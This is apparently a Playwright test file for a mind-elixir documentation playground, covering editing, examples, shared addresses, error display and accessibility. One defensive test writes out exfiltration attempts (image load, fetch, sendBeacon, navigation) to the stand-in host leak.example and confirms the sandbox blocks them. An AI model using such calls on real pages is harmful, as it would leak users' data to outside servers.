import { deflateRawSync } from 'node:zlib';
import type { Locator } from '@playwright/test';
import { findViolations } from './axe.ts';
import { collectViolations } from './conditions.ts';
import { expect, test, visit } from './fixtures.ts';

const path = '/docs/getting-started/playground';

/** Replaces the text of a field. In Firefox, React does not notice Playwright's `fill`. */
async function write(field: Locator, text: string): Promise<void> {
  await expect(field).toBeEditable();
  await field.evaluate((element: HTMLTextAreaElement, written) => {
    element.focus();
    element.select();
    document.execCommand('insertText', false, written);
  }, text);
}

test('what is typed is shown at once, and every example works', async ({ page }) => {
  await visit(page, path);
  const frame = page.frameLocator('.playground-frame');
  await expect(frame.locator('me-root')).toHaveText('Weekend trip');
  const data = page.getByRole('textbox', { name: 'Data' });
  await write(data, (await data.inputValue()).replace('Weekend trip', 'A week at sea'));
  await expect(frame.locator('me-root')).toHaveText('A week at sea');

  const names = await page.getByLabel('Example').locator('option:not([disabled])').allTextContents();
  expect(names.length).toBeGreaterThan(3);
  for (const name of names) {
    await page.getByLabel('Example').selectOption(name);
    await expect(frame.locator('me-root')).toHaveText('Weekend trip');
    await expect(page.locator('.playground-failure')).toHaveCount(0);
  }
});

test('code that was copied from a project imports what the page names', async ({ page }) => {
  await visit(page, path);
  await write(
    page.getByRole('textbox', { name: 'Code' }),
    `import MindElixir, { THEME } from 'mind-elixir';
import { ja } from 'mind-elixir/i18n';
import { mindElixirToPlaintext } from 'mind-elixir/plaintextConverter';
import 'mind-elixir/style.css';
const mind = new MindElixir({ el: '#map', direction: MindElixir.DOWN, theme: THEME, contextMenu: { locale: ja } });
mind.init(data);
console.log(mindElixirToPlaintext(mind.getData()).split('\\n')[0]);`,
  );
  await expect(page.getByRole('log')).toHaveText('- Weekend trip');
  await expect(page.frameLocator('.playground-frame').locator('me-root')).toHaveText('Weekend trip');
});

test('the map follows the colour mode, and keeps what was typed', async ({ page }) => {
  await visit(page, path);
  const frame = page.frameLocator('.playground-frame');
  const data = page.getByRole('textbox', { name: 'Data' });
  await write(data, (await data.inputValue()).replace('Weekend trip', 'Night train'));
  await expect(frame.locator('me-root')).toHaveText('Night train');
  const background = () =>
    frame.locator('.map-container').evaluate((element) => getComputedStyle(element).backgroundColor);
  const light = await background();
  // The bar is hidden. Playwright would scroll up and down to reach the button, and move the bar while it clicks.
  await page.evaluate(() => scrollTo(0, 0));
  await expect(page.locator('html')).not.toHaveAttribute('data-navbar', 'hidden');
  await page.getByRole('button', { name: 'Switch to dark mode' }).click();
  await expect.poll(background).not.toBe(light);
  await expect(frame.locator('me-root')).toHaveText('Night train');
  await page.getByRole('button', { name: 'Switch to light mode' }).click();
  await expect.poll(background).toBe(light);
});

test.describe('in another language', () => {
  test('the examples are in it too', async ({ page }) => {
    await visit(page, `/ja${path}`);
    await expect(page.frameLocator('.playground-frame').locator('me-root')).toHaveText('週末の旅行');
  });
});

test('the frame has no origin, and reaches neither the page nor the network', async ({ page }) => {
  await visit(page, path);
  await expect(page.locator('.playground-frame')).toHaveAttribute('sandbox', 'allow-scripts');
  await write(
    page.getByRole('textbox', { name: 'Code' }),
    `console.log(self.origin);
try { parent.document.title } catch (error) { console.log(error.name); }
try { localStorage } catch (error) { console.log(error.name); }`,
  );
  await expect(page.getByRole('log')).toHaveText('null\nSecurityError\nSecurityError');
});

test.describe('mistakes', () => {
  test.use({ expectedMessages: /nope|Unexpected|expected expression/ });

  // Firefox runs the frame in the page's process, so an endless loop in it blocks the page too.
  test('are shown in their place, and mended by going there', { tag: '@chromium' }, async ({ page }) => {
    await visit(page, path);
    const code = page.getByRole('textbox', { name: 'Code' });
    const failure = page.locator('.playground-failure');
    await write(code, 'const one = 1;\n\nnope();\n');
    await expect(failure).toContainText('nope is not defined');
    await failure.getByRole('button', { name: 'Line 3' }).click();
    await expect(code).toBeFocused();
    await page.keyboard.type('new MindElixir({ el }).init(data);');
    await expect(failure).toHaveCount(0);
    await expect(page.frameLocator('.playground-frame').locator('me-root')).toBeVisible();

    await write(code, 'const one = ;\n');
    await expect(failure).toContainText(/SyntaxError: (?:Unexpected|expected expression)/);
    await expect(failure.getByRole('button', { name: 'Line 1' })).toBeVisible();
    await write(code, 'while (true);');
    await expect(failure).toContainText('did not come to an end');

    await write(code, 'new MindElixir({ el }).init(data);');
    await write(page.getByRole('textbox', { name: 'Data' }), '{ "nodeData": ');
    await expect(failure).toContainText('The data cannot be read');
  });
});

test('the address holds the work', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await visit(page, path);
  await write(page.getByRole('textbox', { name: 'Data' }), '- Shared — 共有\n  - Branch\n');
  await expect(page).toHaveURL(/#play=/);
  await page.getByRole('button', { name: 'Copy address' }).click();
  await expect(page.getByText('Copied')).toBeVisible();
  const address = await page.evaluate(() => navigator.clipboard.readText());

  const other = await context.newPage();
  await visit(other, address);
  await expect(other.getByRole('textbox', { name: 'Data' })).toHaveValue('- Shared — 共有\n  - Branch\n');
  await other.locator('.playground-bar').getByRole('button', { name: 'Run' }).click();
  await expect(other.frameLocator('.playground-frame').locator('me-root')).toHaveText('Shared — 共有');

  await visit(other, `${path}#play=damaged`);
  await other.reload();
  await expect(other.getByText('holds nothing that can be read')).toBeVisible();
  await expect(other.frameLocator('.playground-frame').locator('me-root')).toHaveText('Weekend trip');
});

test.describe('addresses that name no block', () => {
  test.use({ expectedMessages: /404/ });

  test('open the first example', async ({ page }) => {
    for (const hash of [
      '#example=//elsewhere.example/docs/a:1',
      '#example=/nowhere:1',
      '#example=/docs/guides/events:99',
    ]) {
      await visit(page, 'about:blank');
      await visit(page, path + hash);
      await expect(page.getByText('holds nothing that can be read')).toBeVisible();
      await expect(page.frameLocator('.playground-frame').locator('me-root')).toHaveText('Weekend trip');
    }
  });
});

test('code that came with an address waits for Run', { tag: '@firefox' }, async ({ page }) => {
  const code = "const mark = document.createElement('h1'); mark.textContent = 'It ran'; el.append(mark);";
  const hash = `#play=${deflateRawSync(JSON.stringify({ code, data: '- Foreign\n' })).toString('base64url')}`;
  await page.clock.install();
  for (const [prefix, told, run] of [
    ['', 'Read it, then run it.', 'Run'],
    ['/zh-Hans', '请先阅读，再运行。', '运行'],
    ['/ja', '内容を確認してから実行してください。', '実行'],
  ] as const) {
    await visit(page, 'about:blank');
    await visit(page, prefix + path + hash);
    const map = page.locator('.playground-map');
    await expect(map).toContainText(told);
    // Neither typing nor a change of the colour mode runs the code.
    await page.locator('textarea').first().fill(`${code}//`);
    await page.evaluate(() => document.documentElement.setAttribute('data-theme', 'dark'));
    await page.clock.runFor(2000);
    await expect(page.locator('.playground-frame')).toHaveCount(0);
    await map.getByRole('button', { name: run }).click();
    await expect(page.frameLocator('.playground-frame').getByRole('heading')).toHaveText('It ran');
  }
});

test('messages of any kind harm nothing, and code is sent to a frame once', async ({ page }) => {
  await visit(page, path);
  await write(
    page.getByRole('textbox', { name: 'Code' }),
    `console.log('ran');
const wrong = [null, 5, 'done', [], { type: 'log' }, { type: 'report' }, { type: 'report', lines: 5 },
  { type: 'report', lines: [{}], failure: { message: {} } }, { type: 'report', lines: [], failure: null }, { type: 'ready' }];
for (const message of wrong) parent.postMessage(message, '*');
setTimeout(() => console.log('fine', { a: [1] }), 300);`,
  );
  await expect(page.getByRole('log')).toHaveText('ran\nfine {"a":[1]}');
  await expect(page.locator('.playground-failure')).toHaveCount(0);
});

test('code that prints without end prints its last lines, and code that sends without end is stopped', async ({
  page,
}) => {
  await visit(page, path);
  const code = page.getByRole('textbox', { name: 'Code' });
  await write(code, 'for (let line = 1; line <= 200_000; line++) console.log(line);');
  await expect(page.getByRole('log')).toHaveText(Array.from({ length: 100 }, (_, line) => 199_901 + line).join('\n'));
  await write(
    code,
    "for (let line = 0; line < 20_000; line++) parent.postMessage({ type: 'report', lines: ['x'] }, '*');",
  );
  await expect(page.locator('.playground-failure')).toContainText('reported too much at once');
  await expect(page.locator('.playground-frame')).toHaveCount(0);
  expect((await page.getByRole('log').innerText()).split('\n').length).toBeLessThanOrEqual(100);
  await write(code, "console.log('after')");
  await expect(page.getByRole('log')).toHaveText('after');
});

test.describe('what would carry words away', () => {
  test.use({ expectedMessages: /Content Security Policy|ERR_BLOCKED_BY_CSP|violates/ });

  // In Firefox, Playwright's route gets this request although the policy blocks it, so a test cannot detect sending.
  test('is blocked: pictures, requests and addresses of other servers', { tag: '@chromium' }, async ({ page }) => {
    const asked: string[] = [];
    await page.route('https://leak.example/**', (route) => {
      asked.push(route.request().url());
      return route.fulfill({ body: '' });
    });
    await page.addInitScript(collectViolations);
    await visit(page, path);
    await write(
      page.getByRole('textbox', { name: 'Code' }),
      `
const picture = new Image();
picture.onerror = () => console.log('no picture');
picture.src = 'https://leak.example/picture';
await fetch('https://leak.example/fetch').catch(() => console.log('no request'));
console.log(navigator.sendBeacon('https://leak.example/beacon') ? 'queued' : 'no beacon');
setTimeout(() => location.assign('https://leak.example/page'), 300);`,
    );
    await expect(page.getByRole('log')).toContainText('no picture');
    await expect(page.getByRole('log')).toContainText('no request');
    // The page reports that its frame was not allowed to navigate.
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations.join()))
      .toMatch(/^frame-src https:\/\/leak\.example/);
    expect(asked).toEqual([]);
  });
});

test('the snippet is a whole file: imports, element, data and code', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await visit(page, path);
  await expect(page.frameLocator('.playground-frame').locator('me-root')).toBeVisible();
  await page.getByRole('button', { name: 'Copy as file' }).click();
  await expect(page.getByText('Copied')).toBeVisible();
  const snippet = await page.evaluate(() => navigator.clipboard.readText());
  expect(snippet).toContain("import MindElixir from 'mind-elixir';\nimport 'mind-elixir/style.css';");
  expect(snippet).toContain('"topic": "Weekend trip"');
  expect(snippet.trimEnd()).toMatch(/mind\.init\(data\);\nmind\.scaleFit\(\);$/);
});

test('the editor indents, and is left by Escape and Tab', async ({ page }) => {
  await visit(page, path);
  const code = page.getByRole('textbox', { name: 'Code' });
  await write(code, '');
  await code.focus();
  await page.keyboard.type('if (el) {\nel.id;');
  await page.keyboard.press('Tab');
  await expect(code).toHaveValue('if (el) {\n  el.id;  ');
  await page.keyboard.press('Escape');
  await page.keyboard.press('Tab');
  await expect(page.getByRole('textbox', { name: 'Data' })).toBeFocused();
});

// axe queries the frame, which has an opaque origin, so Firefox logs an error.
test('the map in the frame shows that it has the focus', async ({ page }) => {
  await visit(page, path);
  const map = page.frameLocator('.playground-frame').locator('.map-container');
  await expect(map).toHaveCSS('outline-style', 'none');
  await page.getByRole('button', { name: 'Copy as file' }).focus();
  await page.keyboard.press('Tab');
  await expect(map).toBeFocused();
  await expect(map).not.toHaveCSS('outline-style', 'none');
});

test('the playground is accessible', { tag: '@chromium' }, async ({ page }) => {
  await visit(page, path);
  await expect(page.frameLocator('.playground-frame').locator('me-root')).toBeVisible();
  expect(await findViolations(page)).toEqual([]);
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('the first example is shown with its code', async ({ page }) => {
    await visit(page, path);
    await expect(page.locator('.playground-map').getByRole('img')).toBeVisible();
    await expect(page.getByRole('textbox', { name: 'Code' })).toHaveValue(/new MindElixir/);
    await expect(page.locator('.playground').getByRole('button')).toHaveCount(0);
    await expect(page.getByRole('combobox')).toHaveCount(0);
  });
});

test('a block of a guide is opened with its map, and runs at once', async ({ page }) => {
  const guide = '/docs/guides/node-operation';
  await visit(page, guide);
  await page.locator('figure.code[data-play] pre').first().hover();
  const link = page.getByRole('link', { name: 'Open in the playground' }).first();
  await expect(link).toHaveCSS('text-decoration-line', 'none');
  await link.click();
  await expect(page).toHaveURL(`${path}#example=${guide}:1`);
  const code = page.getByRole('textbox', { name: 'Code' });
  await expect(code).toHaveValue(/^const mind = new MindElixir\({ el }\);\nmind\.init\(data\);\n\nconst element = /);
  await expect(page.getByRole('textbox', { name: 'Data' })).toHaveValue(/"stove"/);
  await expect(page.getByRole('log')).toHaveText('true');
});

for (const half of [0, 1]) {
  test(`every block of the guides that has a button for it runs in the playground, half ${half + 1}`, async ({
    page,
    request,
  }) => {
    const sitemap = await (await request.get('/sitemap.xml')).text();
    const guides = Array.from(
      sitemap.matchAll(/<loc>https:\/\/[^/]+(\/docs\/(?!api\/)[^<]*)<\/loc>/g),
      ([, url = '']) => url,
    );
    await visit(page, path);
    await expect(page.frameLocator('.playground-frame').locator('me-root')).toBeVisible();
    const ran = await page.evaluate(
      async (urls) => {
        const ends: { failure?: { message: string } }[] = [];
        addEventListener('message', ({ data }) => {
          if (data.type === 'done' || data.failure) ends.push(data);
        });
        const until = async (isTrue: () => boolean) => {
          while (!isTrue()) await new Promise((resolve) => setTimeout(resolve, 10));
        };
        const bare = (code = '') =>
          code.replace('const mind = new MindElixir({ el });\nmind.init(data);\n\n', '').trim();
        const shown = () => bare(document.querySelector('textarea')?.value);
        const results: string[] = [];
        for (const url of urls) {
          const document = new DOMParser().parseFromString(await (await fetch(url)).text(), 'text/html');
          const blocks = [...document.querySelectorAll('figure.code[data-play] pre')];
          for (const [index, { textContent }] of blocks.entries()) {
            ends.length = 0;
            location.hash = `#example=${url}:${index + 1}`;
            await until(() => shown() === bare(textContent ?? '') && ends.length > 0);
            const failure = ends.find((end) => end.failure)?.failure?.message;
            results.push(`${url} ${index + 1}: ${failure ?? 'ran'}`);
          }
        }
        return results;
      },
      guides.filter((_, index) => index % 2 === half),
    );
    expect(ran.filter((block) => !block.endsWith(': ran'))).toEqual([]);
    expect(ran.length).toBeGreaterThan(20);
  });
}
